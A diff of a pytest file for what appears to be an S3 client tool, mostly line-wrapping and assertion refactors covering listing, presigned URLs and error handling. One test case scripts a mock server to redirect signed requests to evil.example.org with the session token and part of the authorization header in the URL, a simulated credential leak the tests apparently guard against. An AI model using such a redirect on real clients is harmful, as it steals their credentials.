@@ -12,7 +12,7 @@ from answering import Answering
 from aws import error
 from conftest import TINY
 from servers import Nginx, make_authority
-from stage import amazon, signed, user  # noqa: F401
+from stage import amazon, signed, user  # noqa: F401,F811
 
 TOKEN = "session//token+of=user==" + "Aa0/" * 40
 AWKWARD = ["a b/", "plus+and=equals/", "percent%41/", "q?u#e&ry/", "stars*('!)/", "ünï/", "~tilde_-./", "a//b/"]
@@ -68,7 +68,8 @@ def test_lists(private):
     told = private("ls", f"{private.bucket}{folder}", "--start-after", f"{folder}01*'.x", "--format", "keys").expect(0)
     assert told.lines == [f"{folder}{i:02}*'.x" for i in range(2, 12)]
     queries = [r.target for r in clean(private) if r.target.startswith("/?")]
-    assert len(queries) == 2 and all("delimiter=%2F" in q and "prefix=a%20b%2Bc%2F%25%C3%BC%26%3D%2F" in q for q in queries)
+    assert len(queries) == 2 and all("delimiter=%2F" in query for query in queries)
+    assert all("prefix=a%20b%2Bc%2F%25%C3%BC%26%3D%2F" in query for query in queries)
     assert "start-after=" in queries[0] and "continuation-token=" in queries[1]
     assert private("ls", "-r", private.bucket, "--limit", "7", "--format", "keys").expect(0).lines[0].startswith(folder)
     clean(private)
@@ -165,8 +166,8 @@ def test_slow_down_is_retried(private, tmp_path):
     private.check("one")
 
 
-@pytest.mark.parametrize("body", [b"<html><body><h1>403 Forbidden</h1>&nbsp;<Code>x</body></html>", b"", b"<Error><Code>",
-                                  b"\xff\xfe\x00<Error>", b"<Error>" * 5000, b"x" * 100000])
+@pytest.mark.parametrize("body", [b"<html><body><h1>403 Forbidden</h1>&nbsp;<Code>x</body></html>", b"",
+                                  b"<Error><Code>", b"\xff\xfe\x00<Error>", b"<Error>" * 5000, b"x" * 100000])
 def test_bodies_that_are_no_error_document(private, body):
     fail(private, 418, body)
     done = private.index().expect(1, "one_2019.csv", "status 418")
@@ -200,8 +201,8 @@ CASES = {
     "expired": lambda user: setattr(user.stage, "script", lambda request: (400, {}, error("ExpiredToken", TOKEN))
                                     if signed([request]) and request.path == FILE else None),
     "refused": lambda user: user.stage.users.clear(),
-    "redirect": lambda user: setattr(user.stage, "script", lambda request: (
-        302, {"Location": f"https://evil.example.org/?t={urllib.parse.quote(TOKEN)}&s={request.headers['authorization'][-64:]}"},
+    "redirect": lambda user: setattr(user.stage, "script", lambda request: (302, {
+        "Location": f"https://evil.example.org/?{urllib.parse.quote(TOKEN)}&{request.headers['authorization'][-64:]}"},
         b"") if signed([request]) else None),
     "html": lambda user: fail(user, 500, b"<html>" + TOKEN.encode()),
     "skewed": lambda user: setattr(user.stage, "off", datetime.timedelta(hours=1)),
@@ -272,13 +273,14 @@ def parameters(url):
     return sorted(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query, keep_blank_values=True))
 
 
-NAMES = ["plain.cdf", "a b+c.cdf", "percent%41.cdf", "stars*('!).cdf", "ünï.cdf", "q?u#e&r=y.cdf", "~-._.cdf", "a;b@c:d$.cdf"]
+NAMES = ["plain.cdf", "a b+c.cdf", "percent%41.cdf", "stars*('!).cdf", "ünï.cdf", "q?u#e&r=y.cdf",
+         "~-._.cdf", "a;b@c:d$.cdf"]
 
 
 @pytest.fixture
 def files(private):
     """An index whose data keys are awkward."""
-    lines = [f"2019-01-0{i + 1}T00:00:00Z,2019-01-0{i + 1}T00:00:00Z,s3://{TINY}/d/{name},1\n" for i, name in enumerate(NAMES)]
+    lines = [f"2019-01-0{i}Z,2019-01-0{i}Z,s3://{TINY}/d/{name},1\n" for i, name in enumerate(NAMES, 1)]
     private.stage.objects["i/one_2019.csv"] = "".join(lines).encode()
     del private.stage.objects["i/one_2018.csv"]
     private.index().expect(0)
@@ -320,7 +322,8 @@ def test_presigned_for_an_endpoint(private):
         done = presigned(private, *options).expect(1, "far.cdf", "credentials are for the endpoint alone")
         assert len(done.lines) == 1 and done.out.startswith(f"{server.url}/{TINY}/d/here.cdf?")
         key, secret = private.environment["AWS_ACCESS_KEY_ID"], private.environment["AWS_SECRET_ACCESS_KEY"]
-        assert parameters(done.lines[0]) == parameters(by_botocore(done.lines[0], key, secret, TOKEN, "us-east-1", 3600))
+        signed_so = by_botocore(done.lines[0], key, secret, TOKEN, "us-east-1", 3600)
+        assert parameters(done.lines[0]) == parameters(signed_so)
 
 
 def test_presigned_without_credentials(files):
